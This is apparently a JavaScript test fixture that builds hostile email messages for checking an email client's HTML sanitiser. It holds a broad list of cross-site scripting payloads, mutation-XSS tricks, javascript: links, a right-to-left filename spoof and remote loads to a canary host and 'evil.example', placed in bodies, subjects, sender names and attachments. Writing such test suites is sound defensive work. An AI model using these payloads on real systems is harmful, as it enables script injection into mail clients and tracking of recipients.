// What tries to run, to ask another host, or to be more than text.

/** Names that somebody might give to a thing. */
export const names = (canary) => [
  `<img src=${canary}/n.gif onerror=alert(1)>`,
  `"><script src=${canary}/n.js></script>`,
  `'-alert(1)-'`,
  `{{constructor.constructor('alert(1)')()}}`,
  `javascript:alert(1)//${canary}`,
  `</textarea></title><svg/onload=alert(1)>`,
  '\u202egpj.exe <b>',
];

const act = 'top.__pwned=1;parent.__pwned=1;alert(1);fetch(';

const html = (canary) => {
  const run = `${act}'${canary}/ran')`;
  return [
    `<script>${run}</script>`,
    `<img src="${canary}/p.gif" onerror="${run}" onload="${run}">`,
    `<svg onload="${run}"><script href="data:,${run}"/><animate onbegin="${run}" attributeName=x /></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<object data="${canary}/o.swf"></object><embed src="${canary}/e.swf"><applet code="${canary}/a"></applet>`,
    `<link rel=stylesheet href="${canary}/s.css"><link rel=prefetch href="${canary}/f"><link rel=dns-prefetch href="//evil.example">`,
    `<style>@import url(${canary}/i.css);body{background:url(${canary}/b.gif)}@font-face{font-family:x;src:url(${canary}/x.woff)}*{font-family:x}</style>`,
    `<meta http-equiv=refresh content="0;url=${canary}/m"><base href="${canary}/base/"><form action="${canary}/form"><button autofocus onfocus="${run}">Sign in</button></form>`,
    `<a href="javascript:${run}">press</a><a href="data:text/html,<script>${run}</script>">press</a><a href="vbscript:x">press</a><a href="\u0001javascript:${run}">press</a>`,
    `<video src="${canary}/v.mp4" poster="${canary}/v.gif" autoplay></video><audio src="${canary}/a.mp3" autoplay></audio><source srcset="${canary}/z.gif">`,
    `<picture><source srcset="${canary}/q.gif"><img srcset="${canary}/w.gif 1x" src="data:image/svg+xml,<svg onload='${run}'/>"></picture>`,
    `<table background="${canary}/t.gif"><td background="${canary}/d.gif" style="background:url(${canary}/y.gif)">cell</table><body background="${canary}/k.gif">`,
    `<details open ontoggle="${run}"><summary>x</summary></details><marquee onstart="${run}">x</marquee><input autofocus onfocus="${run}">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><template><img src=x onerror="${run}"></template><textarea></textarea><xmp><img src=x onerror="${run}"></xmp>`,
    `<<script>script>${run}<</script>/script><scr\0ipt>${run}</script><IMG """><SCRIPT>${run}</SCRIPT>">`,
    `<!--[if mso]><img src="${canary}/mso.gif"><![endif]--><![CDATA[<img src="${canary}/c.gif">]]><?xml-stylesheet href="${canary}/p.css"?>`,
  ];
};

/** Messages that try; each has a name and its bytes. */
export function hostile(canary, to) {
  const mail = (subject, from, body, more = '') =>
    Buffer.from(
      `From: ${from}\r\nTo: ${to}\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\n${more}` +
        `Content-Type: text/html; charset=utf-8\r\n\r\n<p>Hello</p>${body}\r\n`,
    );
  const word = (text) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
  const tries = html(canary).map((body, at) => ({
    name: `html ${at}`,
    raw: mail(`Html ${at}`, 'ann@far.test', body),
  }));
  const subjects = names(canary).map((name, at) => ({
    name: `subject ${at}`,
    raw: mail(word(name), `${word(name)} <ann@far.test>`, name, `List-Unsubscribe: <javascript:alert(1)>\r\n`),
  }));
  const file = (name) => word(name).replaceAll('"', '');
  const attached = Buffer.from(
    `From: ann@far.test\r\nTo: ${to}\r\nSubject: Attached\r\nMIME-Version: 1.0\r\n` +
      'Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\n' +
      `javascript:alert(1) <img src=${canary}/text.gif> ${canary}/seen\r\n` +
      `--m\r\nContent-Type: text/html; name="${file('<img src=x onerror=alert(1)>.html')}"\r\n` +
      `Content-Disposition: attachment\r\n\r\n<script>${act}'${canary}/file')</script>\r\n` +
      `--m\r\nContent-Type: image/svg+xml\r\nContent-Disposition: inline; filename="x.svg"\r\n\r\n` +
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${act}'${canary}/svg')"/>\r\n--m--\r\n`,
  );
  const images = mail(
    'Images from afar',
    'ann@far.test',
    `<img src="${canary}/one.gif"><img src="${canary}/two.gif" width="9"><script src="${canary}/x.js"></script>` +
      `<link rel=stylesheet href="${canary}/x.css"><iframe src="${canary}/x"></iframe>` +
      `<p style="background:url(${canary}/bg.gif)">See <a href="${canary}/offer">the offer</a></p>`,
  );
  return [...tries, ...subjects, { name: 'attached', raw: attached }, { name: 'images', raw: images }];
}
